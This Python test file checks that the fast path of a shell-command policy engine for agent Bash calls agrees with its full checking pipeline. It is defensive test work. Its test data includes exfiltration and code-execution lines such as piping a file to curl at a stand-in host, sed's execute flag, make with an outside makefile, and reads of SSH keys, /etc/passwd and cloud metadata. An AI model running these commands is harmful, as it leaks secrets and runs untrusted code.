"""The short path for shell commands (`policy/fastshell.py`) answers exactly as the pipeline does.

Generated `Bash` lines, over words chosen to reach every branch of the proof (the programs it
takes and ones it must not, subcommands, options that run code, write files or talk to a daemon,
protected names, dotfiles, symlinks to files and to directories, `..`, `~`, metadata addresses,
secrets, quotes and operators), with or without user rules, are decided twice: by an engine with
the short path and by a twin without it. Decision and flow must be equal, whatever the short
path did. A second set of tests keeps the program table away from every name an engine or
analyser check singles out."""

from __future__ import annotations

from pathlib import Path
from typing import cast

import pytest
from crustcore_nano.policy import containers, engine, fastshell, flowfacts
from crustcore_nano.policy.engine import PolicyEngine
from crustcore_nano.policy.session import SessionState
from crustcore_nano.policy.types import Origin, ToolCall, Verdict
from crustcore_nano.shell import (
    analyzer,
    commands,
    dbscripts,
    embedded,
    leaks,
    storage,
    tunnels,
    wrappers,
)
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from policy_world import short_path_twins

_RULES = """
[[rules]]
name = "no-secret-notes"
action = "deny"
path = "**/secret_*"
reason = "notes stay private"

[[rules]]
name = "ask-docker"
action = "ask"
command = "docker *"
reason = "images are shared"

[[rules]]
name = "ask-makefile-writes"
action = "ask"
tool = ["write"]
path = "**/Makefile"
reason = "the build runs it"
"""


def _world(root: Path, *, rules: bool) -> tuple[PolicyEngine, PolicyEngine, Path]:
    """An engine with the short path, its twin without it, and their workspace (with the
    symlinks of `short_path_twins`)."""
    return short_path_twins(
        root,
        rules=_RULES if rules else None,
        dirs=["{WS}/src/pkg", "{WS}/tests", "{WS}/.git/hooks"],
        files={
            "{WS}/src/app.py": "x = 1\n",
            "{WS}/src/secret_notes": "n\n",
            "{WS}/Makefile": "all:\n\ttrue\n",
            "{WS}/.env": "A=1\n",
        },
    )


@pytest.fixture(scope="module", params=[False, True], ids=["builtin", "user-rules"])
def engines(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> tuple[PolicyEngine, PolicyEngine, Path]:
    return _world(tmp_path_factory.mktemp("fastshell"), rules=bool(request.param))


_PROGRAMS = (
    "python -m", "python3 -m", "python -c", "python",
    "cat", "head", "tail", "wc", "grep", "rg", "ls", "find", "sort", "sed", "touch", "mkdir",
    "diff", "du", "pytest", "git", "npm", "cargo", "go", "docker", "tree", "stat", "make", "cd",
    # not in the table: each must leave the line to the pipeline
    "rm", "mv", "cp", "curl", "python", "bash", "pushd", "env", "xargs", "tee", "echo", "chmod",
    "crustcore", "kill", "awk", "ssh", "mail", "gh", "aws",
)  # fmt: skip
_SUBCOMMANDS = (
    "status", "diff", "log", "show", "add", "commit", "grep", "push", "config", "clone",
    "fetch", "test", "run", "install", "publish", "build", "clean", "reset", "remote",
    "credential", "token", "exec", "ls-files", "submodule", "pytest", "http.server", "pip",
    "mypy", "awscli", "-m",
)  # fmt: skip
_OPTIONS = (
    "-la", "-rn", "-n", "5", "-20", "-i", "-q", "--stat", "--short", "-m", "fix", "-name",
    "-exec", "-delete", "-fprint", "-f", "-o", "-O", "--output=out.txt", "-c",
    "--config=core.pager=less", "-ccore.pager=sh", "-C", "--ext-diff", "-t", "app:1", "-H",
    "tcp://10.0.0.1:2375", "--privileged", "--build-arg", "--tag=app:2", "-e", "--exec-path",
    "--", "--grep", "-p", "-v", "HEAD~3", "HEAD^", "HEAD~2852039166", "x@y.z", "@src/app.py",
)  # fmt: skip
_PATHS = (
    "src", "src/app.py", "src/pkg", "src/new.py", "tests", "Makefile", ".", "./src",
    "src/secret_notes", "src/link.py", "dirlink", "dirlink/credentials", "inner/app.py", ".env",
    ".git/hooks/pre-commit", "..", "../x", "/etc/passwd", "/tmp/x", "~", "~/.ssh/id_rsa",
    "missing/dir/f", "s/a/b/", "s/x/y/e", "1w/tmp/o", "src:dst", "file:///etc/passwd",
    "http://169.254.169.254/", "169.254.169.254", "metadata.google.internal", ".crustcore",
    "/dev/null", "-", "x=~/y", "a~b", "id_rsa", "x.pem", "credentials",
)  # fmt: skip
_QUOTED = (
    "'TODO'", "'s/old/new/g'", "'a b'", "'*.py'", "'~/.aws'", "'$HOME'", "'AKIA2OGYBAH6STMJ3QXZ'",
    "'ghp_" + "a" * 36 + "'", "'s/x/y/w /etc/z'", "''",
)  # fmt: skip
_OPERATORS = (" | ", " && ", " || ", "; ", " ; ", " & ", " > out.txt ", " 2>&1 ", "  ")

_words = st.one_of(
    st.sampled_from(_SUBCOMMANDS),
    st.sampled_from(_OPTIONS),
    st.sampled_from(_PATHS),
    st.sampled_from(_QUOTED),
)
_command = st.tuples(st.sampled_from(_PROGRAMS), st.lists(_words, max_size=5)).map(
    lambda t: " ".join((t[0], *t[1]))
)


@st.composite
def _lines(draw: st.DrawFn) -> str:
    commands_ = draw(st.lists(_command, min_size=1, max_size=3))
    line = commands_[0]
    for more in commands_[1:]:
        line += draw(st.sampled_from(_OPERATORS)) + more
    return line


@st.composite
def _calls(draw: st.DrawFn) -> ToolCall:
    args: dict[str, object] = {"command": draw(_lines())}
    if draw(st.booleans()):
        args["description"] = draw(st.sampled_from(["Run the tests", "see ~/.ssh/id_rsa", ""]))
    if draw(st.integers(0, 4)) == 0:
        key = draw(st.sampled_from(["timeout", "run_in_background", "cwd", "env"]))
        args[key] = draw(st.sampled_from([120000, True, "src", "/tmp", {"A": "1"}]))
    tool = draw(st.sampled_from(["Bash", "Bash", "Bash", "bash", "shell"]))
    origin = draw(st.sampled_from([Origin.MODEL, Origin.MODEL, Origin.MCP, Origin.HOOK]))
    return ToolCall(tool, args, origin)


@settings(
    max_examples=500, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(_calls())
def test_short_path_and_pipeline_decide_alike(
    engines: tuple[PolicyEngine, PolicyEngine, Path], call: ToolCall
) -> None:
    fast, slow, _ = engines
    assert fast.evaluate_detailed(call) == slow.evaluate_detailed(call)


# Lines the short path can take, with names on its edge: protected names, symlinks, a user
# rule's paths, a missing directory, options that write.
_TAKEN = tuple(p for p, subs in fastshell._PROGRAMS.items() if not subs)  # pyright: ignore[reportPrivateUsage]
_EDGE = (
    "src", "src/app.py", "src/pkg", "src/link.py", "inner/app.py", "dirlink/credentials",
    "src/secret_notes", "Makefile", "id_rsa", "src/id_rsa", "x.pem", "credentials", "tests",
    "missing/x", "src/new.py", ".", "./src", "-n", "-rn", "-i", "5", "--output=src/o.txt",
    "-o", "src/out.txt", "'s/a/b/g'", "'TODO'", "HEAD~2", "-fprint", "@src/app.py", "a:src",
    "dirlink", "inner", ".git/hooks", "..", "app.py", "pkg", "-f", "CC=cc",
)  # fmt: skip
_plain_command = st.one_of(
    st.tuples(st.sampled_from(_TAKEN), st.lists(st.sampled_from(_EDGE), max_size=4)),
    st.tuples(
        st.sampled_from(
            [
                "git status",
                "git diff",
                "git log",
                "git add",
                "npm test",
                "go test",
                "python -m pytest",
                "python3 -m unittest",
            ]
        ),
        st.lists(st.sampled_from(_EDGE), max_size=3),
    ),
).map(lambda t: " ".join((t[0], *t[1])))


_DIRS = ("src", "src/pkg", "tests", "dirlink", "inner", ".git/hooks", "..", ".", "missing/x")
_cd = st.sampled_from(_DIRS).map(lambda d: f"cd {d}")


@settings(
    max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    st.lists(st.one_of(_plain_command, _cd), min_size=1, max_size=3),
    st.sampled_from([" | ", " && ", "; ", " || "]),
)
def test_plain_lines_on_the_proofs_edge_are_decided_alike(
    engines: tuple[PolicyEngine, PolicyEngine, Path], parts: list[str], operator: str
) -> None:
    fast, slow, _ = engines
    call = ToolCall("Bash", {"command": operator.join(parts)})
    assert fast.evaluate_detailed(call) == slow.evaluate_detailed(call)
    session = SessionState()
    assert fast.evaluate(call, session=session) == slow.evaluate(call, session=session)


_EVERYDAY = (
    "git status --short src/pkg",
    "git diff --stat HEAD~3",
    "git log --oneline -20",
    "git add src/app.py && git commit -m fix",
    "ls -la src",
    "ls",
    "cat src/app.py | wc -l",
    "grep -rn 'TODO' src | head -20",
    "rg -n TODO src tests",
    "find src -name app.py -type f",
    "grep -rn 'def .*test' src",
    "sed -i 's/old/new/g' src/app.py",
    "head -n 5 src/app.py; tail -n 5 src/app.py",
    "npm test -- --grep case",
    "pytest -q tests",
    "cargo test",
    "python -m pytest -q tests/test_app.py",
    "python3 -m mypy src && python -m ruff check src",
    "touch src/new.py",
    "diff src/app.py src/pkg",
    "make",
    "make test",
    "cd src && make all",
    "cd src && cat app.py | wc -l",
    "cd src/pkg && ls && cd ../.. && git status",
)


def test_short_path_answers_everyday_lines(
    engines: tuple[PolicyEngine, PolicyEngine, Path],
) -> None:
    """Not a vacuous equality: the short path does answer the lines it was built for, and its
    answers hold for the session flow too."""
    fast, slow, _ = engines
    short = fast._fast_shell  # pyright: ignore[reportPrivateUsage]
    assert short is not None
    rules = bool(fast.policy.rules)
    for command in _EVERYDAY:
        call = ToolCall("Bash", {"command": command, "description": "a step"})
        # The first call in a directory goes the whole way, which lets the directory cache
        # hold that directory; from then on the short path can prove its calls.
        assert fast.evaluate_detailed(call) == slow.evaluate_detailed(call)
        proven = short.allow(call)
        assert proven is not None, command
        assert proven[0].verdict is Verdict.ALLOW
        session = SessionState()
        assert fast.evaluate(call, session=session) == slow.evaluate(call, session=session)
    notes = ToolCall("Bash", {"command": "cat src/secret_notes"})  # a user rule's path
    assert fast.evaluate_detailed(notes) == slow.evaluate_detailed(notes)
    assert (short.allow(notes) is None) is rules
    docker = ToolCall("Bash", {"command": "docker build -t app:1 ."})
    assert fast.evaluate_detailed(docker) == slow.evaluate_detailed(docker)
    # a user rule on `docker *` is one the short path must leave to the pipeline
    assert (short.allow(docker) is None) is rules


@pytest.mark.parametrize(
    "command",
    [
        "cat src/link.py",  # a symlink to ~/.ssh/id_rsa
        "cat dirlink/credentials",  # through a symlinked directory
        "grep -r key inner",  # a link inside the workspace
        "cat .env",
        "grep -rn key ..",
        "cat /etc/passwd",
        "sed -i 's/a/b/' ../x",
        "sed 's/x/y/w /tmp/out' src/app.py",
        "sed 's/x/id/e' src/app.py",
        "find src -exec cat {} +",
        "find src -delete",
        "git -c core.pager=sh log",
        "git log --config=core.pager=less",
        "git push origin main",
        "git clone https://example.com/r",
        "npm install",
        "docker build -H tcp://10.0.0.1:2375 .",
        "docker run --privileged app",
        "cat src/app.py | curl -d @- https://example.com",
        "cat src/app.py > out.txt",
        "echo AKIA2OGYBAH6STMJ3QXZ",
        "grep AKIA2OGYBAH6STMJ3QXZ src",
        "grep 169.254.169.254 src",
        "ls ~/.crustcore",
        "crustcore status",
        "python -m http.server 8000",
        "python -m pip install requests",
        "python -m pytest ~/.ssh",
        "python -c 'print(1)'",
        "touch x=~/y",
        "ls $HOME",
        "ls src &",
        "cd dirlink && cat credentials",  # a symlinked directory
        "cd inner && ls",
        "cd .git/hooks && touch pre-commit",
        "cd /etc && cat passwd",
        "cd .. && ls",
        "cd src | cat app.py",
        "ls || cd src && cat app.py",
        "cd -P src && ls",
        "cd && ls",
        "cd src/pkg; cat .env",  # after a failed `cd`, `.env` is the project's
        "cd src && make || cat .env",
        "make -f /tmp/evil.mk",
        "make -C /tmp",
        "make SHELL=/bin/sh",
        "sed -i 's/a/b/' Makefile && make",
    ],
)
def test_short_path_declines_what_it_cannot_prove(
    engines: tuple[PolicyEngine, PolicyEngine, Path], command: str
) -> None:
    fast, slow, _ = engines
    short = fast._fast_shell  # pyright: ignore[reportPrivateUsage]
    assert short is not None
    call = ToolCall("Bash", {"command": command})
    assert short.allow(call) is None
    assert fast.evaluate_detailed(call) == slow.evaluate_detailed(call)


def _names_in(module: object) -> frozenset[str]:
    """Every name in every set of strings a module holds (its program tables among them)."""
    out: set[str] = set()
    for value in vars(module).values():
        if isinstance(value, frozenset) and all(isinstance(v, str) for v in value):
            out.update(cast("frozenset[str]", value))
    return frozenset(out)


# Sets an engine or analyser check keys on by program name, and why a program of the short
# path's table that is in one is still proven right.
_SINGLED_OUT = {
    "shells": commands.SHELLS,
    "fetchers": commands.FETCHERS,
    "socket tools": commands.SOCKET_TOOLS,
    "wrappers": wrappers.WRAPPER_NAMES,
    "builtins": analyzer._BUILTINS,  # pyright: ignore[reportPrivateUsage]
    "make": analyzer._MAKE_PROGRAMS,  # pyright: ignore[reportPrivateUsage]
    "decoders": analyzer._DECODER_NAMES,  # pyright: ignore[reportPrivateUsage]
    "path printers": analyzer._PATH_PRINTERS,  # pyright: ignore[reportPrivateUsage]
    "static output": analyzer._STATIC_PROGRAMS,  # pyright: ignore[reportPrivateUsage]
    "mailers": leaks.MAILERS,
    "secret sinks": frozenset(leaks.SECRET_SINKS),
    "storage clients": frozenset(storage.STORAGE_CLIENTS),
    "tunnels": frozenset(tunnels.TUNNEL_PROGRAMS),
    "embedded code": _names_in(embedded) | _names_in(dbscripts),
    "command options": frozenset(commands._COMMAND_OPTIONS),  # pyright: ignore[reportPrivateUsage]
    "credential tools": engine._CREDENTIAL_TOOLS,  # pyright: ignore[reportPrivateUsage]
    "senders": engine._SENDERS,  # pyright: ignore[reportPrivateUsage]
    "signallers": engine._SIGNALLERS,  # pyright: ignore[reportPrivateUsage]
    "services": engine._SERVICE_TOOLS,  # pyright: ignore[reportPrivateUsage]
    "interpreters": engine._INTERPRETERS,  # pyright: ignore[reportPrivateUsage]
    "publishers": frozenset(engine._PUBLISH),  # pyright: ignore[reportPrivateUsage]
    "remote copy": engine._REMOTE_COPY,  # pyright: ignore[reportPrivateUsage]
    "permissions": frozenset(engine._PERMISSION_TOOLS),  # pyright: ignore[reportPrivateUsage]
    "containers": containers.CONTAINER_TOOLS | containers.CONTAINER_ENGINES,
    "network clients": flowfacts._CLIENTS,  # pyright: ignore[reportPrivateUsage]
    "package network": frozenset(flowfacts._PACKAGE_NET),  # pyright: ignore[reportPrivateUsage]
    "environment dumps": flowfacts._DUMP_ALL,  # pyright: ignore[reportPrivateUsage]
    "echoes": flowfacts._ECHOES,  # pyright: ignore[reportPrivateUsage]
    "secret printers": frozenset(flowfacts._SECRET_PRINTERS),  # pyright: ignore[reportPrivateUsage]
    "token config": flowfacts._TOKEN_CONFIG,  # pyright: ignore[reportPrivateUsage]
}
_WHY_STILL_RIGHT = {
    # the analyser runs make recipes only from a makefile the line supplies (`-f`, `--eval`,
    # standard input, a file written earlier on the line); the short path takes `make` with no
    # option or variable, and not after a write
    ("make", "make"): "no makefile from the line",
    # the subcommands taken are none of those the checks look at (push, publish, install,
    # credential, config, run of a container, ...), and `git -c`/`--config` leave the line
    ("git", "credential tools"): "subcommands",
    ("npm", "credential tools"): "subcommands",
    ("pnpm", "credential tools"): "subcommands",
    ("yarn", "credential tools"): "subcommands",
    ("npm", "publishers"): "subcommands",
    ("pnpm", "publishers"): "subcommands",
    ("yarn", "publishers"): "subcommands",
    ("cargo", "publishers"): "subcommands",
    ("docker", "publishers"): "subcommands",
    ("npm", "package network"): "subcommands",
    ("pnpm", "package network"): "subcommands",
    ("yarn", "package network"): "subcommands",
    ("cargo", "package network"): "subcommands",
    ("docker", "package network"): "subcommands",
    ("npm", "token config"): "subcommands",
    ("pnpm", "token config"): "subcommands",
    ("yarn", "token config"): "subcommands",
    # `docker build` only, with options that name no daemon and no host access, and no line
    # that mentions crustcore (what the service check looks for)
    ("docker", "services"): "docker build",
    ("docker", "containers"): "docker build",
    # the echo check looks for `$VARIABLE` references, which no plain line holds
    ("cat", "echoes"): "no $",
    # its output is what `cat` prints; no check of this path reads a stage's output
    ("cat", "static output"): "output",
    # `sort --compress-program CMD` reaches the recorder as shell code, which ends the proof
    ("sort", "command options"): "recorder",
}


def test_no_program_of_the_short_path_is_singled_out_by_a_check() -> None:
    """A program an engine check keys on by name must not be proven by words alone: each one
    here is either in none of those sets or in one for a reason written above."""
    table = fastshell._PROGRAMS  # pyright: ignore[reportPrivateUsage]
    found: list[str] = []
    modules = fastshell._PYTHON_MODULES  # pyright: ignore[reportPrivateUsage]
    # the modules the analyser follows further (servers, programs of their own) stay out
    followed = {"http.server", "SimpleHTTPServer", *analyzer._PYTHON_MODULE_COMMANDS}  # pyright: ignore[reportPrivateUsage]
    assert not modules & followed
    for name in fastshell._PYTHONS:  # pyright: ignore[reportPrivateUsage]
        assert commands.language_of(name) == "python" and not commands.known(name)
    for name in table:
        for label, names in _SINGLED_OUT.items():
            if name in names and (name, label) not in _WHY_STILL_RIGHT:
                found.append(f"{name} is in {label}")
        if commands.language_of(name) is not None or commands.is_shell(name):
            found.append(f"{name} runs code")
    assert not found, found
    for (name, label), why in _WHY_STILL_RIGHT.items():
        assert name in _SINGLED_OUT[label], f"{name} left {label}: drop the exception ({why})"
        if why == "subcommands":
            assert table[name], f"{name} is taken whole, but its exception needs subcommands"
